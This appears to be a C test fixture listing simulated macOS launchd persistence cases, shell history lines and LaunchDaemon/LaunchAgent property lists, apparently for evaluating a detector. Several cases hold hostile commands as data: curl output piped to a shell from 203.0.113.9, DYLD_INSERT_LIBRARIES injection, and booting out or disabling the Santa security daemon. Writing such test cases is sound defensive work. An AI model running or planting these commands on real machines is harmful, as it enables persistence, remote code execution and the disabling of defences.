/* evaluate_macos.c -- how launchd is abused: property lists, overrides and what was typed. */
#include <stddef.h>

#include "evaluate.h"

#define PLIST(keys)                                                                                \
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict>" keys               \
    "</dict></plist>\n"
#define TEXT(key, text) "<key>" key "</key><string>" text "</string>"
#define TRUE(key)       "<key>" key "</key><true/>"
#define LABEL           TEXT("Label", "org.metrics")
#define RUNS            TEXT("Program", "/usr/local/bin/metricsd") TRUE("RunAtLoad")
#define ARGUMENTS(...)  "<key>ProgramArguments</key><array>" __VA_ARGS__ "</array>"
#define ITEM(text)      "<string>" text "</string>"
#define MAC             "System/Library/CoreServices/SystemVersion.plist", PLIST(TEXT("ProductVersion", "14.5"))
#define HISTORY         "Users/ann/.zsh_history"
#define DAEMON          "Library/LaunchDaemons/org.metrics.plist"

/* clang-format off */
#define FILES(name, ...) {.trick = name, .files = {MAC, __VA_ARGS__, NULL}}

const struct attack evaluate_macos[] = {
    FILES("launchctl submit (history)", HISTORY, "launchctl submit -l org.metrics -- /usr/local/bin/metricsd\n"),
    FILES("launchctl submit of a shell's one-liner (history)", HISTORY, "launchctl submit -l m -- /bin/sh -c 'curl http://203.0.113.9/a | sh'\n"),
    FILES("launchctl load from /tmp (history)", HISTORY, "sudo launchctl load -w /tmp/m.plist\n"),
    FILES("launchctl bootstrap from /Users/Shared (history)", HISTORY, "launchctl bootstrap gui/501 /Users/Shared/m.plist\n"),
    FILES("launchctl asuser (history)", HISTORY, "sudo launchctl asuser 501 /usr/local/bin/metricsd\n"),
    FILES("launchctl kickstart of one's own daemon (history)", HISTORY, "sudo launchctl bootstrap system /Library/LaunchDaemons/org.metrics.plist\nsudo launchctl kickstart -k system/org.metrics\n"),
    FILES("launchctl setenv DYLD_INSERT_LIBRARIES (history)", HISTORY, "launchctl setenv DYLD_INSERT_LIBRARIES /usr/local/lib/m.dylib\n"),
    FILES("launchctl unload of a security daemon (history)", HISTORY, "sudo launchctl bootout system/com.google.santad\n"),
    FILES("a security daemon disabled (override)", "private/var/db/com.apple.xpc.launchd/disabled.plist", PLIST(TRUE("com.google.santad"))),
    FILES("daemon: a plain program in /usr/local", DAEMON, PLIST(LABEL RUNS)),
    FILES("daemon: a shell's one-liner", DAEMON, PLIST(LABEL ARGUMENTS(ITEM("/bin/sh") ITEM("-c") ITEM("while :; do sleep 9; done")) TRUE("RunAtLoad"))),
    FILES("daemon: a download piped to a shell", DAEMON, PLIST(LABEL ARGUMENTS(ITEM("/bin/bash") ITEM("-c") ITEM("curl -s http://203.0.113.9/a | bash")) TRUE("RunAtLoad"))),
    FILES("daemon: osascript with its program in the arguments", DAEMON, PLIST(LABEL ARGUMENTS(ITEM("/usr/bin/osascript") ITEM("-e") ITEM("do shell script \"id\"")) TRUE("KeepAlive"))),
    FILES("daemon: a program in /tmp", DAEMON, PLIST(LABEL TEXT("Program", "/private/tmp/m") TRUE("RunAtLoad"))),
    FILES("daemon: a program in /Users/Shared", DAEMON, PLIST(LABEL TEXT("Program", "/Users/Shared/m") TRUE("RunAtLoad"))),
    FILES("daemon: a hidden program", DAEMON, PLIST(LABEL TEXT("Program", "/Library/.m/metricsd") TRUE("RunAtLoad"))),
    FILES("daemon: DYLD_INSERT_LIBRARIES", DAEMON, PLIST(LABEL RUNS "<key>EnvironmentVariables</key><dict>" TEXT("DYLD_INSERT_LIBRARIES", "/usr/local/lib/m.dylib") "</dict>")),
    FILES("daemon that calls itself com.apple.*", "Library/LaunchDaemons/com.apple.metricsd.plist", PLIST(TEXT("Label", "com.apple.metricsd") RUNS)),
    FILES("agent whose label is Apple's and not its file's name", "Library/LaunchAgents/org.metrics.plist", PLIST(TEXT("Label", "com.apple.softwareupdate") RUNS)),
    FILES("agent of a user: a program in a hidden folder", "Users/ann/Library/LaunchAgents/org.metrics.plist", PLIST(LABEL TEXT("Program", "/Users/ann/.local/m") TRUE("RunAtLoad"))),
    FILES("agent of a user: WatchPaths and a script in its home", "Users/ann/Library/LaunchAgents/org.metrics.plist", PLIST(LABEL ARGUMENTS(ITEM("/bin/sh") ITEM("/Users/ann/m.sh")) "<key>WatchPaths</key><array>" ITEM("/Users/ann/Downloads") "</array>")),
    FILES("hidden property list", "Library/LaunchDaemons/.metrics.plist", PLIST(LABEL RUNS)),
    {0},
};
/* clang-format on */
